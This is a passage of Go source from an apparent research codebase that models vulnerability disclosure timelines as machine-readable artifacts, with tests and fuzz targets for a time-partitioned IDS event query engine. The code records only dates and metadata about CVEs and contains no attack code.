			t.Errorf("event %s: pipeline %v/%v, study %v", e.Letter(), gg, okG, gw)
		}
	}
}
