package artifacts

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/lifecycle"
)

func validArtifact() *Artifact {
	pub := time.Date(2021, 12, 10, 0, 0, 0, 0, time.UTC)
	x := pub.Add(4 * 24 * time.Hour)
	return &Artifact{
		CVE:       "2021-44228",
		Summary:   "Log4Shell",
		Published: pub,
		Disclosures: []Disclosure{
			{Party: PartyVendor, Date: pub.Add(-14 * 24 * time.Hour), Channel: "security@ email"},
			{Party: PartyPublic, Date: pub, Channel: "advisory"},
		},
		Fixes: []Fix{
			{Party: PartyVendor, Available: pub.Add(-24 * time.Hour), Scope: "log4j 2.15.0"},
			{Party: PartyIDSVendor, Available: pub.Add(9 * time.Hour), Scope: "NIDS signature"},
		},
		Deployment: []DeploymentSample{
			{Date: pub.Add(12 * time.Hour), Fraction: 0.2, Source: "telemetry"},
			{Date: pub.Add(3 * 24 * time.Hour), Fraction: 0.6, Source: "telemetry"},
		},
		Exploits: []Exploitation{
			{Observed: pub.Add(13 * time.Hour), Source: "telescope"},
		},
		ExploitPublic: &x,
	}
}

func TestValidate(t *testing.T) {
	if err := validArtifact().Validate(); err != nil {
		t.Fatalf("valid artifact rejected: %v", err)
	}
}

func TestValidateErrors(t *testing.T) {
	cases := map[string]func(*Artifact){
		"missing cve":          func(a *Artifact) { a.CVE = "" },
		"missing published":    func(a *Artifact) { a.Published = time.Time{} },
		"disclosure no party":  func(a *Artifact) { a.Disclosures[0].Party = "" },
		"disclosure no date":   func(a *Artifact) { a.Disclosures[0].Date = time.Time{} },
		"fix no date":          func(a *Artifact) { a.Fixes[0].Available = time.Time{} },
		"deployment fraction":  func(a *Artifact) { a.Deployment[0].Fraction = 1.5 },
		"deployment no date":   func(a *Artifact) { a.Deployment[0].Date = time.Time{} },
		"deployment regresses": func(a *Artifact) { a.Deployment[1].Fraction = 0.1 },
		"exploit no date":      func(a *Artifact) { a.Exploits[0].Observed = time.Time{} },
	}
	for name, mutate := range cases {
		a := validArtifact()
		mutate(a)
		if err := a.Validate(); err == nil {
			t.Errorf("%s: Validate accepted invalid artifact", name)
		}
	}
}

func TestTimelineProjection(t *testing.T) {
	a := validArtifact()
	tl := a.Timeline()
	pub := a.Published

	v, _ := tl.Get(lifecycle.VendorAware)
	if want := pub.Add(-14 * 24 * time.Hour); !v.Equal(want) {
		t.Errorf("V = %v, want earliest private disclosure %v", v, want)
	}
	f, _ := tl.Get(lifecycle.FixReady)
	if want := pub.Add(-24 * time.Hour); !f.Equal(want) {
		t.Errorf("F = %v, want earliest fix %v", f, want)
	}
	d, _ := tl.Get(lifecycle.FixDeployed)
	if want := pub.Add(3 * 24 * time.Hour); !d.Equal(want) {
		t.Errorf("D = %v, want first sample >= 0.5 (%v)", d, want)
	}
	x, _ := tl.Get(lifecycle.ExploitPub)
	if want := pub.Add(4 * 24 * time.Hour); !x.Equal(want) {
		t.Errorf("X = %v", x)
	}
	attack, _ := tl.Get(lifecycle.Attacks)
	if want := pub.Add(13 * time.Hour); !attack.Equal(want) {
		t.Errorf("A = %v", attack)
	}
}

func TestTimelineDeploymentFallsBackToFix(t *testing.T) {
	a := validArtifact()
	a.Deployment = nil
	tl := a.Timeline()
	d, ok := tl.Get(lifecycle.FixDeployed)
	f, _ := tl.Get(lifecycle.FixReady)
	if !ok || !d.Equal(f) {
		t.Errorf("D = %v/%v, want F fallback %v", d, ok, f)
	}
}

func TestTimelinePublicOnlyDisclosure(t *testing.T) {
	a := validArtifact()
	a.Disclosures = []Disclosure{{Party: PartyPublic, Date: a.Published}}
	a.Fixes = nil
	a.Deployment = nil
	tl := a.Timeline()
	v, _ := tl.Get(lifecycle.VendorAware)
	if !v.Equal(a.Published) {
		t.Errorf("V = %v, want publication", v)
	}
	if _, ok := tl.Get(lifecycle.FixReady); ok {
		t.Error("F should be unknown without fixes")
	}
}

func TestJSONRoundTrip(t *testing.T) {
	a := validArtifact()
	var buf bytes.Buffer
	if err := json.NewEncoder(&buf).Encode(a); err != nil {
		t.Fatal(err)
	}
	var got Artifact
	if err := json.NewDecoder(&buf).Decode(&got); err != nil {
		t.Fatal(err)
	}
	if got.CVE != a.CVE || len(got.Disclosures) != 2 || len(got.Fixes) != 2 {
		t.Errorf("round trip lost data: %+v", got)
	}
	if got.ExploitPublic == nil || !got.ExploitPublic.Equal(*a.ExploitPublic) {
		t.Error("ExploitPublic lost")
	}
	if err := got.Validate(); err != nil {
		t.Errorf("round-tripped artifact invalid: %v", err)
	}
}

func TestFromStudy(t *testing.T) {
	a, err := FromStudy("2021-44228")
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Validate(); err != nil {
		t.Fatal(err)
	}
	if len(a.Fixes) != 1 || a.Fixes[0].Party != PartyIDSVendor {
		t.Errorf("fixes = %+v", a.Fixes)
	}
	if a.ExploitPublic == nil {
		t.Error("missing X")
	}
	if len(a.Exploits) != 1 || a.Exploits[0].Retrospective {
		t.Errorf("exploits = %+v", a.Exploits)
	}
	if _, err := FromStudy("1999-0001"); err == nil {
		t.Error("unknown CVE accepted")
	}
}

func TestFromStudyRetrospectiveFlag(t *testing.T) {
	// F5's first observed attack predates publication: the artifact must
	// mark it retrospective, per Section 8.2's adjusted-timing ask.
	a, err := FromStudy("2022-1388")
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Exploits) != 1 || !a.Exploits[0].Retrospective {
		t.Errorf("exploits = %+v, want retrospective", a.Exploits)
	}
}

func TestFromStudyTalosDisclosure(t *testing.T) {
	a, err := FromStudy("2021-21799")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, d := range a.Disclosures {
		if d.Party == PartyIDSVendor {
			found = true
		}
	}
	if !found {
		t.Error("Talos-disclosed CVE missing IDS-vendor disclosure record")
	}
}

// The artifact corpus must reproduce Table 4 when projected onto timelines:
// the projection and the direct Appendix E reading are two paths to the
// same lifecycle.
func TestStudyCorpusReproducesTable4(t *testing.T) {
	corpus, err := StudyCorpus()
	if err != nil {
		t.Fatal(err)
	}
	if len(corpus) != 63 {
		t.Fatalf("corpus = %d", len(corpus))
	}
	var tls []lifecycle.Timeline
	for _, a := range corpus {
		tls = append(tls, a.Timeline())
	}
	fromArtifacts := core.EvaluateDesiderata(tls, core.PublishedBaselines())
	direct := core.EvaluateDesiderata(lifecycle.StudyTimelines(), core.PublishedBaselines())
	for i := range direct {
		if fromArtifacts[i].SatisfiedCount != direct[i].SatisfiedCount ||
			fromArtifacts[i].Evaluated != direct[i].Evaluated {
			t.Errorf("%s: artifacts %d/%d vs direct %d/%d",
				direct[i].Pair,
				fromArtifacts[i].SatisfiedCount, fromArtifacts[i].Evaluated,
				direct[i].SatisfiedCount, direct[i].Evaluated)
		}
	}
}
