// Package artifacts implements the paper's Section 8.2 proposal: machine-
// readable "disclosure artifacts" that researchers publish alongside a
// vulnerability, recording the disclosure process itself — who was told
// when (V), how fixes developed (F), how deployment progressed (D), and
// what exploitation was known (A). The paper argues venues should require
// these; this package defines the schema, validation, JSON serialization,
// and the projection onto the CERT lifecycle model so artifacts plug
// directly into the repository's analyses.
package artifacts

import (
	"fmt"
	"sort"
	"time"

	"repro/internal/datasets"
	"repro/internal/lifecycle"
)

// Party classifies a disclosure recipient (Section 8.2's V record).
type Party string

// Party values.
const (
	PartyVendor    Party = "vendor"     // the affected software vendor
	PartyOS        Party = "os"         // operating-system distributors
	PartyIDSVendor Party = "ids-vendor" // signature vendors (the paper's focus)
	PartyCERT      Party = "cert"       // coordination centers
	PartyGov       Party = "government"
	PartyPublic    Party = "public" // public announcement
)

// Disclosure is one notification event.
type Disclosure struct {
	Party Party     `json:"party"`
	Date  time.Time `json:"date"`
	// Channel documents how (advisory, email, bug tracker, rule release).
	Channel string `json:"channel,omitempty"`
	Notes   string `json:"notes,omitempty"`
}

// Fix is one fix-development record (the F record). Scope distinguishes a
// direct software fix from a mitigation like an IDS rule.
type Fix struct {
	Party     Party     `json:"party"`
	Available time.Time `json:"available"`
	Scope     string    `json:"scope,omitempty"`
}

// DeploymentSample is one fix-deployment observation (the D record): at
// Date, Fraction of the affected population had the fix.
type DeploymentSample struct {
	Date     time.Time `json:"date"`
	Fraction float64   `json:"fraction"`
	Source   string    `json:"source,omitempty"`
}

// Exploitation is one known-exploitation record (the A record).
// Retrospective marks reports discovered after the fact (the paper asks for
// adjusted timing when attacks are known retrospectively).
type Exploitation struct {
	Observed      time.Time `json:"observed"`
	Source        string    `json:"source,omitempty"`
	Retrospective bool      `json:"retrospective,omitempty"`
}

// Artifact is the complete machine-readable disclosure record for one CVE.
type Artifact struct {
	CVE         string             `json:"cve"`
	Summary     string             `json:"summary,omitempty"`
	Published   time.Time          `json:"published"`
	Disclosures []Disclosure       `json:"disclosures,omitempty"`
	Fixes       []Fix              `json:"fixes,omitempty"`
	Deployment  []DeploymentSample `json:"deployment,omitempty"`
	Exploits    []Exploitation     `json:"exploitation,omitempty"`
	// ExploitPublic is when exploitation knowledge became public (X).
	ExploitPublic *time.Time `json:"exploitPublic,omitempty"`
}

// Validate checks structural invariants: identifiers present, dates set,
// deployment fractions in [0,1] and non-decreasing over time.
func (a *Artifact) Validate() error {
	if a.CVE == "" {
		return fmt.Errorf("artifacts: missing CVE id")
	}
	if a.Published.IsZero() {
		return fmt.Errorf("artifacts: %s missing publication date", a.CVE)
	}
	for i, d := range a.Disclosures {
		if d.Party == "" {
			return fmt.Errorf("artifacts: %s disclosure %d missing party", a.CVE, i)
		}
		if d.Date.IsZero() {
			return fmt.Errorf("artifacts: %s disclosure %d missing date", a.CVE, i)
		}
	}
	for i, f := range a.Fixes {
		if f.Available.IsZero() {
			return fmt.Errorf("artifacts: %s fix %d missing availability date", a.CVE, i)
		}
	}
	samples := append([]DeploymentSample(nil), a.Deployment...)
	sort.Slice(samples, func(i, j int) bool { return samples[i].Date.Before(samples[j].Date) })
	prev := -1.0
	for i, s := range samples {
		if s.Fraction < 0 || s.Fraction > 1 {
			return fmt.Errorf("artifacts: %s deployment %d fraction %v out of [0,1]", a.CVE, i, s.Fraction)
		}
		if s.Date.IsZero() {
			return fmt.Errorf("artifacts: %s deployment %d missing date", a.CVE, i)
		}
		if s.Fraction < prev {
			return fmt.Errorf("artifacts: %s deployment regresses at %s (%.2f -> %.2f)",
				a.CVE, s.Date.Format("2006-01-02"), prev, s.Fraction)
		}
		prev = s.Fraction
	}
	for i, e := range a.Exploits {
		if e.Observed.IsZero() {
			return fmt.Errorf("artifacts: %s exploitation %d missing date", a.CVE, i)
		}
	}
	return nil
}

// DeployedThreshold is the deployment fraction at which the CERT model's
// single-point D event is considered reached when projecting an artifact.
const DeployedThreshold = 0.5

// Timeline projects the artifact onto the six-event CERT model:
//
//	V = earliest non-public disclosure (or publication if none),
//	F = earliest fix availability,
//	D = first deployment sample at or above DeployedThreshold
//	    (or F when no deployment data exists, matching the paper's
//	    immediate-install reading of IDS rules),
//	P = publication, X = ExploitPublic, A = earliest exploitation.
func (a *Artifact) Timeline() lifecycle.Timeline {
	var t lifecycle.Timeline
	t.CVE = a.CVE
	t.Set(lifecycle.PublicAware, a.Published)

	v := a.Published
	for _, d := range a.Disclosures {
		if d.Party != PartyPublic && d.Date.Before(v) {
			v = d.Date
		}
	}
	t.Set(lifecycle.VendorAware, v)

	var f time.Time
	for _, fx := range a.Fixes {
		if f.IsZero() || fx.Available.Before(f) {
			f = fx.Available
		}
	}
	if !f.IsZero() {
		t.Set(lifecycle.FixReady, f)
	}

	samples := append([]DeploymentSample(nil), a.Deployment...)
	sort.Slice(samples, func(i, j int) bool { return samples[i].Date.Before(samples[j].Date) })
	var d time.Time
	for _, s := range samples {
		if s.Fraction >= DeployedThreshold {
			d = s.Date
			break
		}
	}
	switch {
	case !d.IsZero():
		t.Set(lifecycle.FixDeployed, d)
	case !f.IsZero():
		t.Set(lifecycle.FixDeployed, f)
	}

	if a.ExploitPublic != nil {
		t.Set(lifecycle.ExploitPub, *a.ExploitPublic)
	}
	var attack time.Time
	for _, e := range a.Exploits {
		if attack.IsZero() || e.Observed.Before(attack) {
			attack = e.Observed
		}
	}
	if !attack.IsZero() {
		t.Set(lifecycle.Attacks, attack)
	}
	return t
}

// FromStudy reconstructs the disclosure artifact this study's data implies
// for one of the 63 CVEs — the paper's point being that researchers should
// publish these directly instead of the community reverse-engineering them.
func FromStudy(cveID string) (*Artifact, error) {
	c := datasets.StudyCVEByID(cveID)
	if c == nil {
		return nil, fmt.Errorf("artifacts: CVE-%s is not a study CVE", cveID)
	}
	a := &Artifact{
		CVE:       c.ID,
		Summary:   c.Description,
		Published: c.Published,
	}
	a.Disclosures = append(a.Disclosures, Disclosure{
		Party: PartyPublic, Date: c.Published, Channel: "NVD/CVE publication",
	})
	if c.DMinusP.Known {
		at := c.Published.Add(c.DMinusP.D)
		a.Fixes = append(a.Fixes, Fix{
			Party: PartyIDSVendor, Available: at, Scope: "NIDS signature",
		})
		a.Deployment = append(a.Deployment, DeploymentSample{
			Date: at, Fraction: 1.0, Source: "immediate rule installation assumption",
		})
		if c.TalosDisclosed {
			a.Disclosures = append(a.Disclosures, Disclosure{
				Party: PartyIDSVendor, Date: at, Channel: "vendor vulnerability report",
				Notes: "CVE originally disclosed by the IDS vendor",
			})
		}
	}
	if c.XMinusP.Known {
		x := c.Published.Add(c.XMinusP.D)
		a.ExploitPublic = &x
	}
	if c.AMinusP.Known {
		a.Exploits = append(a.Exploits, Exploitation{
			Observed:      c.Published.Add(c.AMinusP.D),
			Source:        "DSCOPE interactive telescope",
			Retrospective: c.AMinusP.D < 0,
		})
	}
	return a, nil
}

// StudyCorpus builds the full artifact set for all 63 study CVEs.
func StudyCorpus() ([]*Artifact, error) {
	var out []*Artifact
	for _, c := range datasets.StudyCVEs() {
		a, err := FromStudy(c.ID)
		if err != nil {
			return nil, err
		}
		if err := a.Validate(); err != nil {
			return nil, err
		}
		out = append(out, a)
	}
	return out, nil
}
