package timeline

import (
	"fmt"
	"net/netip"
	"testing"
	"time"

	"repro/internal/fault"
	"repro/internal/fuzzcorpus"
	"repro/internal/ids"
	"repro/internal/packet"
)

// fuzzSeedEvents builds a small deterministic event batch for seed corpora:
// time-sorted, a few shared CVEs so the CVE index and bloom have structure.
func fuzzSeedEvents(n int) []ids.Event {
	base := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	evs := make([]ids.Event, n)
	for i := range evs {
		evs[i] = ids.Event{
			Time:      base.Add(time.Duration(i) * time.Hour),
			Src:       packet.Endpoint{Addr: netip.AddrFrom4([4]byte{10, 0, 0, byte(i + 1)}), Port: uint16(40000 + i)},
			Dst:       packet.Endpoint{Addr: netip.AddrFrom4([4]byte{192, 0, 2, 1}), Port: 443},
			SID:       2000 + i,
			Published: base.AddDate(0, 0, -3),
			CVE:       fmt.Sprintf("2021-%d", 44000+i%3),
			Msg:       "fuzz seed event",
			Bytes:     512 + i,
		}
	}
	return evs
}

func fuzzSegmentSeeds(tb testing.TB) [][]byte {
	evs := fuzzSeedEvents(10)
	valid := encodeSegment(0, []int64{6, 4}, evs)
	single := encodeSegment(3, []int64{1}, evs[:1])
	torn := append([]byte(nil), valid[:len(valid)-5]...)
	flipped := append([]byte(nil), valid...)
	flipped[len(flipped)/2] ^= 0x40
	badMagic := append([]byte(nil), valid...)
	badMagic[0] ^= 0xff
	return [][]byte{valid, single, torn, flipped, badMagic, {}, segMagic[:]}
}

func fuzzCheckpointSeeds(tb testing.TB) [][]byte {
	agg := NewAggregate()
	agg.Add(fuzzSeedEvents(10), nil)
	cut := time.Date(2022, 1, 1, 9, 0, 0, 0, time.UTC)
	valid := encodeCheckpoint(2, 3, cut, cut.Add(time.Minute), agg)
	empty := encodeCheckpoint(0, 0, time.Time{}, cut, NewAggregate())
	torn := append([]byte(nil), valid[:len(valid)-7]...)
	flipped := append([]byte(nil), valid...)
	flipped[len(flipped)/3] ^= 0x08
	badMagic := append([]byte(nil), valid...)
	badMagic[3] ^= 0xff
	return [][]byte{valid, empty, torn, flipped, badMagic, {}, ckptMagic[:]}
}

// TestRegenFuzzCorpus rewrites this package's committed seed corpora from
// the same seed lists the fuzz targets f.Add. Run with REGEN_FUZZ_CORPUS=1
// after changing the seeds.
func TestRegenFuzzCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzSegment", fuzzSegmentSeeds(t))
	fuzzcorpus.Write(t, "FuzzCheckpoint", fuzzCheckpointSeeds(t))
}

// FuzzSegment hammers the sealed-segment decoder — the only timeline file
// whose contents drive index-guided seeks back into the same bytes. The
// parser must never panic, and anything it accepts must be internally
// consistent: a full-range scan yields exactly the header's declared event
// count, every event inside [MinTime, MaxTime], and a CVE-index scan never
// exceeds the full scan.
func FuzzSegment(f *testing.F) {
	for _, seed := range fuzzSegmentSeeds(f) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := parseSegment("fuzz.seg", data)
		if err != nil {
			return
		}
		fs := fault.NewSimFS(1, fault.Profile{})
		if err := fs.WriteFile("fuzz.seg", data, 0o644); err != nil {
			t.Fatal(err)
		}
		hi := m.MaxTime.Add(time.Hour)
		n := 0
		err = m.scanRange(fs, false, time.Time{}, hi, func(ev ids.Event) error {
			if m.Count > 0 && (ev.Time.Before(m.MinTime) || ev.Time.After(m.MaxTime)) {
				t.Fatalf("scan emitted an event at %v outside the header's [%v, %v]",
					ev.Time, m.MinTime, m.MaxTime)
			}
			n++
			return nil
		})
		if err != nil {
			t.Fatalf("parse accepted the segment but a full scan failed: %v", err)
		}
		if n != m.Count {
			t.Fatalf("full scan saw %d events, header declared %d", n, m.Count)
		}
		nCVE := 0
		err = m.scanCVE(fs, "2021-44000", hi, func(ids.Event) error {
			nCVE++
			return nil
		})
		if err != nil {
			t.Fatalf("parse accepted the segment but a CVE scan failed: %v", err)
		}
		if nCVE > n {
			t.Fatalf("CVE scan saw %d events, more than the full scan's %d", nCVE, n)
		}
	})
}

// FuzzCheckpoint feeds arbitrary bytes to the checkpoint decoder. The engine
// treats an unparseable checkpoint as absent (fall back to an older one), so
// the only hard requirements are: never panic, and anything accepted must
// re-encode and re-parse to the same metadata and event count — a checkpoint
// that survives one recovery must survive every later one.
func FuzzCheckpoint(f *testing.F) {
	for _, seed := range fuzzCheckpointSeeds(f) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		meta, agg, err := parseCheckpoint("fuzz.ck", data)
		if err != nil {
			return
		}
		if meta.K < 0 {
			t.Fatalf("accepted a checkpoint with no header (K=%d)", meta.K)
		}
		if agg == nil || agg.Stats == nil || agg.Life == nil {
			t.Fatal("accepted a checkpoint without both aggregate frames")
		}
		re := encodeCheckpoint(meta.Seq, meta.K, meta.Cut, meta.WrittenAt, agg)
		meta2, agg2, err := parseCheckpoint("fuzz2.ck", re)
		if err != nil {
			t.Fatalf("accepted checkpoint did not survive re-encode: %v", err)
		}
		if meta2.Seq != meta.Seq || meta2.K != meta.K || !meta2.Cut.Equal(meta.Cut) {
			t.Fatalf("re-encoded metadata drifted: %+v vs %+v", meta2, meta)
		}
		if agg2.EventCount() != agg.EventCount() {
			t.Fatalf("re-encoded aggregate drifted: %d events vs %d",
				agg2.EventCount(), agg.EventCount())
		}
	})
}
