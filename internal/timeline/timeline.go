// Package timeline is the time-travel query engine layered on the event
// store: it seals committed events into immutable time-partitioned segment
// files, writes periodic snapshot checkpoints of the lifecycle and scan-stat
// aggregates, and answers as-of queries — "what did the study know at time
// t?" — in time proportional to the events since the nearest checkpoint
// instead of a full log replay.
//
// # Design
//
// The store appends events in arrival order, which is not event-time order:
// a sensor can deliver an event hours after it happened. The engine
// therefore never assumes segments partition event time. Instead:
//
//   - Seal cuts are taken in arrival order from the store's *committed*
//     per-shard prefixes (Store.CommittedEvents), so a sealed segment never
//     contains an event a crash-recovered store would lack. Each segment is
//     internally time-sorted and records its min/max event time; segments
//     may overlap in time.
//   - A checkpoint over the first k segments records cut = the maximum event
//     time across those segments, and an aggregate covering all their
//     events. Because the aggregate is a commutative monoid (order- and
//     batch-insensitive), this is exact for any arrival order.
//   - AsOf(t) picks the newest checkpoint with cut <= t, then replays only
//     the delta: events in (cut, t] from checkpointed segments (usually
//     none — their max times are <= cut), events <= t from newer segments,
//     and the store's unsealed committed-and-published tail. Segments whose
//     min time exceeds t are skipped without touching the file.
//
// All files become visible only by renaming a fully fsynced temp file, so
// recovery is: list the directory, delete stranded *.tmp, trust every *.seg,
// and drop any checkpoint that fails to parse (costing replay time, never
// answers). The whole engine runs on a fault.FS and is exercised under
// fault.SimFS crash profiles in its tests.
package timeline

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
)

// Config configures an Engine.
type Config struct {
	// Dir is the segment/checkpoint directory.
	Dir string
	// FS is the filesystem to run on; nil means the real one.
	FS fault.FS
	// Store is the event store segments are sealed from.
	Store *eventstore.Store
	// RulePub maps rule SIDs to publication times; it parameterizes the
	// lifecycle aggregate (FixReady evidence) and must match what the batch
	// study uses (Study.RulePublications).
	RulePub map[int]time.Time
	// SegmentEvents is the seal threshold: Tick seals a segment once this
	// many committed events are unsealed. 0 means 4096; the cap is 65536 so
	// per-segment index frames stay well under the record size limit.
	SegmentEvents int
	// CheckpointEvery writes a checkpoint after every N new segments.
	// 0 means every segment (N=1); negative disables checkpoints entirely
	// (every as-of query replays the full log — the cold baseline).
	CheckpointEvery int
}

const (
	defaultSegmentEvents = 4096
	maxSegmentEvents     = 65536
	aggCacheSize         = 4
)

// Engine seals segments, maintains checkpoints, and serves as-of views.
// All methods are safe for concurrent use; queries never block sealing.
type Engine struct {
	fs      fault.FS
	dir     string
	store   *eventstore.Store
	rulePub map[int]time.Time
	segSize int
	ckEvery int

	mu            sync.RWMutex
	segments      []*segmentMeta
	checkpoints   []*ckptMeta
	sealed        []int64 // cumulative per-shard sealed counts (newest segment's header)
	maxSealedTime time.Time
	sinceCkpt     int

	aggMu    sync.Mutex
	aggCache map[uint64]*Aggregate // checkpoint seq -> aggregate, small LRU-ish
}

// Metrics is a point-in-time summary for the /metrics endpoint.
type Metrics struct {
	Segments         int
	SealedEvents     int64
	SealedBytes      int64
	Checkpoints      int
	CheckpointEvents int64     // events covered by the newest checkpoint
	CheckpointAt     time.Time // wall time the newest checkpoint was written; zero if none
}

// Open attaches an engine to dir, recovering sealed state: stranded *.tmp
// files from interrupted seals are removed, segments are loaded and
// validated against each other and the store, and unreadable checkpoints
// are discarded so queries fall back to the previous one.
func Open(cfg Config) (*Engine, error) {
	fs := cfg.FS
	if fs == nil {
		fs = fault.OS
	}
	if cfg.Store == nil {
		return nil, fmt.Errorf("timeline: Config.Store is required")
	}
	segSize := cfg.SegmentEvents
	if segSize <= 0 {
		segSize = defaultSegmentEvents
	}
	if segSize > maxSegmentEvents {
		segSize = maxSegmentEvents
	}
	ckEvery := cfg.CheckpointEvery
	if ckEvery == 0 {
		ckEvery = 1
	}
	e := &Engine{
		fs:       fs,
		dir:      cfg.Dir,
		store:    cfg.Store,
		rulePub:  cfg.RulePub,
		segSize:  segSize,
		ckEvery:  ckEvery,
		aggCache: map[uint64]*Aggregate{},
	}
	if err := fs.MkdirAll(cfg.Dir, 0o755); err != nil {
		return nil, fmt.Errorf("timeline: %w", err)
	}
	names, err := fs.ReadDir(cfg.Dir)
	if err != nil {
		return nil, fmt.Errorf("timeline: %w", err)
	}
	var segPaths, ckptPaths []string
	for _, name := range names {
		path := e.dir + "/" + name
		switch {
		case strings.HasSuffix(name, ".tmp"):
			// A crash between write and rename strands a temp file; it was
			// never visible, so deleting it is the whole recovery story.
			if err := fs.Remove(path); err != nil {
				return nil, fmt.Errorf("timeline: removing stranded %s: %w", name, err)
			}
		case strings.HasSuffix(name, ".seg"):
			segPaths = append(segPaths, path)
		case strings.HasSuffix(name, ".ck"):
			ckptPaths = append(ckptPaths, path)
		}
	}
	for _, path := range segPaths {
		raw, err := fs.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("timeline: %w", err)
		}
		m, err := parseSegment(path, raw)
		if err != nil {
			return nil, err
		}
		e.segments = append(e.segments, m)
	}
	sort.Slice(e.segments, func(i, j int) bool { return e.segments[i].Seq < e.segments[j].Seq })
	for i, m := range e.segments {
		if m.Seq != uint64(i) {
			return nil, fmt.Errorf("timeline: segment sequence gap: have %s at position %d", m.path, i)
		}
		if m.Count > 0 && m.MaxTime.After(e.maxSealedTime) {
			e.maxSealedTime = m.MaxTime
		}
		e.sealed = m.SealedCounts
	}
	if err := e.checkStoreCoverage(); err != nil {
		return nil, err
	}
	for _, path := range ckptPaths {
		raw, err := fs.ReadFile(path)
		if err != nil {
			continue // unreadable checkpoint: fall back, don't fail
		}
		meta, agg, err := parseCheckpoint(path, raw)
		if err != nil || meta.K > len(e.segments) {
			// Corrupt, or it references segments we don't have (possible
			// only under storage reordering of the two renames). Either
			// way it is not trustworthy; drop it and fall back.
			fs.Remove(path)
			continue
		}
		e.checkpoints = append(e.checkpoints, meta)
		e.cacheAggregate(meta.Seq, agg)
	}
	sort.Slice(e.checkpoints, func(i, j int) bool { return e.checkpoints[i].Seq < e.checkpoints[j].Seq })
	if n := len(e.checkpoints); n > 0 {
		e.sinceCkpt = len(e.segments) - e.checkpoints[n-1].K
	} else {
		e.sinceCkpt = len(e.segments)
	}
	return e, nil
}

// checkStoreCoverage verifies the store still holds every event the
// timeline sealed. Sealing only covers committed prefixes, so this can fail
// only if the store directory was lost or swapped — which must be loud.
func (e *Engine) checkStoreCoverage() error {
	if e.sealed == nil {
		return nil
	}
	committed := e.store.CommittedEvents()
	if len(committed) != len(e.sealed) {
		return fmt.Errorf("timeline: store has %d shards but segments were sealed from %d; store and timeline directories are mismatched", len(committed), len(e.sealed))
	}
	for i, n := range e.sealed {
		if int64(len(committed[i])) < n {
			return fmt.Errorf("timeline: store shard %d has %d committed events but %d are sealed; store lost data after sealing", i, len(committed[i]), n)
		}
	}
	return nil
}

// Tick seals a segment if at least Config.SegmentEvents committed events are
// unsealed, then writes a checkpoint if one is due. It reports whether a
// segment was sealed. The daemon calls this periodically; tests call Seal
// directly for exact control.
func (e *Engine) Tick() (bool, error) {
	e.mu.RLock()
	sealed := e.sealed
	e.mu.RUnlock()
	pending := 0
	for i, shard := range e.store.CommittedEvents() {
		n := len(shard)
		if sealed != nil && i < len(sealed) {
			n -= int(sealed[i])
		}
		pending += n
	}
	if pending < e.segSize {
		return false, nil
	}
	return e.Seal()
}

// Seal cuts every committed-but-unsealed event into one new segment file and
// writes a checkpoint if one is due. It reports whether a segment was
// written (false when nothing is pending). Seals are serialized; queries
// proceed concurrently against the previous state until the new segment is
// durably renamed in.
func (e *Engine) Seal() (bool, error) {
	e.mu.Lock()
	defer e.mu.Unlock()

	committed := e.store.CommittedEvents()
	if e.sealed != nil && len(committed) != len(e.sealed) {
		return false, fmt.Errorf("timeline: store shard count changed (%d -> %d)", len(e.sealed), len(committed))
	}
	var batch []ids.Event
	counts := make([]int64, len(committed))
	for i, shard := range committed {
		from := int64(0)
		if e.sealed != nil {
			from = e.sealed[i]
		}
		counts[i] = int64(len(shard))
		batch = append(batch, shard[from:]...)
	}
	if len(batch) == 0 {
		return false, nil
	}
	eventstore.SortEvents(batch)

	seq := uint64(len(e.segments))
	path := e.dir + "/" + segmentName(seq)
	tmp := e.dir + "/" + fmt.Sprintf("segment-%06d.tmp", seq)
	data := encodeSegment(seq, counts, batch)
	if err := writeFileAtomic(e.fs, tmp, path, data); err != nil {
		return false, fmt.Errorf("timeline: sealing segment %d: %w", seq, err)
	}
	m, err := parseSegment(path, data)
	if err != nil {
		return false, err
	}
	e.segments = append(e.segments, m)
	e.sealed = counts
	if m.MaxTime.After(e.maxSealedTime) {
		e.maxSealedTime = m.MaxTime
	}
	e.sinceCkpt++

	if e.ckEvery > 0 && e.sinceCkpt >= e.ckEvery {
		if err := e.writeCheckpointLocked(); err != nil {
			// The segment is durable and counted; the checkpoint will be
			// retried after the next seal. Queries fall back meanwhile.
			return true, fmt.Errorf("timeline: checkpoint after segment %d: %w", seq, err)
		}
	}
	return true, nil
}

// Checkpoint forces a checkpoint covering every sealed segment now,
// regardless of CheckpointEvery. No-op if one already covers them all.
func (e *Engine) Checkpoint() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if n := len(e.checkpoints); len(e.segments) == 0 ||
		(n > 0 && e.checkpoints[n-1].K == len(e.segments)) {
		return nil
	}
	return e.writeCheckpointLocked()
}

// writeCheckpointLocked builds and durably writes a checkpoint covering all
// current segments. Builds are incremental: start from the newest existing
// checkpoint's aggregate and fold in only the segments (and late events)
// past its cut. Caller holds e.mu.
func (e *Engine) writeCheckpointLocked() error {
	k := len(e.segments)
	cut := e.maxSealedTime
	agg := NewAggregate()
	prevK := 0
	var prevCut time.Time
	hasPrev := false
	if n := len(e.checkpoints); n > 0 {
		prev := e.checkpoints[n-1]
		pa, err := e.loadAggregate(prev)
		if err != nil {
			return err
		}
		agg = pa.Clone()
		prevK, prevCut, hasPrev = prev.K, prev.Cut, true
	}
	fold := func(ev ids.Event) error {
		agg.AddOne(ev, e.rulePub)
		return nil
	}
	for i, m := range e.segments {
		var err error
		if hasPrev && i < prevK {
			// Already covered up to prevCut; only late events count.
			err = m.scanRange(e.fs, true, prevCut, cut, fold)
		} else {
			err = m.scanRange(e.fs, false, time.Time{}, cut, fold)
		}
		if err != nil {
			return err
		}
	}

	seq := uint64(len(e.checkpoints))
	if n := len(e.checkpoints); n > 0 {
